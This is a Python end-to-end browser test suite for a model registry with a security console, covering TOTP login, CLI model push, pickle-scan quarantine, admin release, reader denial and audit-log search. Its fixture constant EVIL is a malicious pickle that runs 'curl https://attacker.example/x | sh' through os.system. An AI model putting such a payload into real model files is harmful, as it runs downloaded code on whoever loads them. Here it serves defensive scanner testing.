"""End to end in headless Chromium against a real server over TLS: log in with TOTP, push a
model with the CLI, read its scan report, release it as admin, fail to as a reader,
search the audit log."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from bastion.audit import AuditEvent, Outcome
from bastion.auth.base import Role
from bastion.cli.main import cli
from tests.console.browser.conftest import LiveSite, log_in, screenshot

pytestmark = [pytest.mark.browser, pytest.mark.slow]

EVIL = b"cos\nsystem\n(S'curl https://attacker.example/x | sh'\ntR."


def _push(live: LiveSite, tmp_path: Path, version: str) -> None:
    """``bastion login`` then ``bastion push``, the commands a publisher runs."""
    env = {
        "BASTION_LOGIN_FILE": str(tmp_path / "login.json"),
        "BASTION_TOKEN": live.site.admin_token,
    }
    runner = CliRunner()
    login = runner.invoke(cli, ["login", live.url, "--ca-cert", str(live.site.paths.cert)], env=env)
    assert login.exit_code == 0, login.output
    folder = tmp_path / f"model-{version}"
    folder.mkdir()
    (folder / "model.pkl").write_bytes(EVIL)
    (folder / "config.json").write_text('{"architectures": ["BertModel"]}')
    pushed = runner.invoke(cli, ["push", str(folder), f"team/sentiment:{version}"], env=env)
    assert pushed.exit_code == 1, pushed.output  # 1: pushed, but quarantined
    assert "quarantined" in pushed.output


def test_admin_reads_the_report_releases_and_finds_it_in_the_audit_log(
    live_site: LiveSite, browser: Any, tmp_path: Path
) -> None:
    live = live_site
    live.site.add_user("root", (Role.ADMIN, "*"))
    _push(live, tmp_path, "1.0")
    page = browser.new_page()
    page.goto(live.console("/"))
    screenshot(page, "login")
    log_in(page, live, "root")
    screenshot(page, "namespaces")
    page.get_by_role("link", name="team").click()
    page.get_by_role("link", name="sentiment").click()
    page.get_by_role("link", name="1.0").click()
    page.get_by_text("pickle.dangerous-global").first.wait_for()
    assert page.get_by_text("os.system").count() >= 1
    assert page.get_by_text("What to do:").count() == 1
    screenshot(page, "version")
    page.get_by_label("Reason").fill("reviewed: the call is a test fixture")
    page.get_by_role("button", name="Release from quarantine").click()
    page.locator("dd", has_text="by user:root").wait_for()
    assert page.locator("h1 .badge").inner_text() == "released"
    assert page.get_by_role("button", name="Release from quarantine").count() == 0
    live.site.flush()
    page.get_by_role("link", name="Audit log").click()
    page.get_by_label("Action").fill("model.release")
    page.get_by_role("button", name="Search").click()
    row = page.get_by_role("row").filter(has_text="model.release")
    assert row.count() == 1
    assert "reviewed: the call is a test fixture" in row.inner_text()
    assert "model.release" in page.url  # a search is a GET: bookmarkable, no secret in it
    page.get_by_role("button", name="Verify the whole log").click()
    page.locator("#verify-result").wait_for()
    assert page.locator("#verify-result").inner_text().startswith("Verified:")
    screenshot(page, "audit")


def test_reader_sees_no_release_and_cannot_force_one(
    live_site: LiveSite, browser: Any, tmp_path: Path
) -> None:
    live = live_site
    live.site.add_user("rita", (Role.READER, "team"))
    _push(live, tmp_path, "2.0")
    page = browser.new_page()
    log_in(page, live, "rita")
    page.goto(live.console("/ns/team/sentiment/2.0"))
    page.get_by_text("pickle.dangerous-global").first.wait_for()
    assert page.get_by_role("button", name="Release from quarantine").count() == 0
    assert page.get_by_role("link", name="Audit log").count() == 0
    csrf = page.locator("form[action$='/logout'] input[name=csrf]").get_attribute("value")
    forced = page.request.post(
        live.console("/ns/team/sentiment/2.0/release"),
        form={"csrf": csrf, "reason": "I say so"},
        max_redirects=0,
    )
    assert forced.status == 403
    assert live.admin.info("team/sentiment:2.0")["state"] == "quarantined"


def test_keyboard_skip_link_and_admin_pages(
    live_site: LiveSite, browser: Any, tmp_path: Path
) -> None:
    live = live_site
    live.site.add_user("root", (Role.ADMIN, "*"))
    live.site.add_user("rita", (Role.READER, "team"))
    for rule, count in (("prompt-injection", 5), ("secrets", 2), ("pii", 1)):
        for _ in range(count):
            live.site.state.audit.emit(
                AuditEvent(
                    action="guard.block",
                    actor="token:chat-app",
                    outcome=Outcome.DENIED,
                    source="10.0.0.7",
                    resource="gpt-4o-mini",
                    details={"rule": rule, "prompt": "the user's words", "score": 0.9},
                )
            )
    live.site.flush()
    page = browser.new_page()
    log_in(page, live, "root")
    page.keyboard.press("Tab")
    focused = page.evaluate("document.activeElement.textContent")
    assert focused == "Skip to content"
    page.keyboard.press("Enter")
    assert page.evaluate("document.activeElement.id") == "main"
    page.get_by_role("link", name="Users").click()
    page.get_by_role("cell", name="rita", exact=True).wait_for()
    screenshot(page, "users")
    page.get_by_role("link", name="Firewall").click()
    page.locator("svg rect").first.wait_for()
    assert page.locator("svg rect").count() == 3
    assert page.get_by_text("the user's words").count() == 0
    screenshot(page, "firewall")
    page.set_viewport_size({"width": 390, "height": 844})  # a phone
    page.goto(live.console("/ns/team"))
    width = page.evaluate("document.documentElement.scrollWidth")
    assert width <= 390, "the page scrolls sideways at phone width"
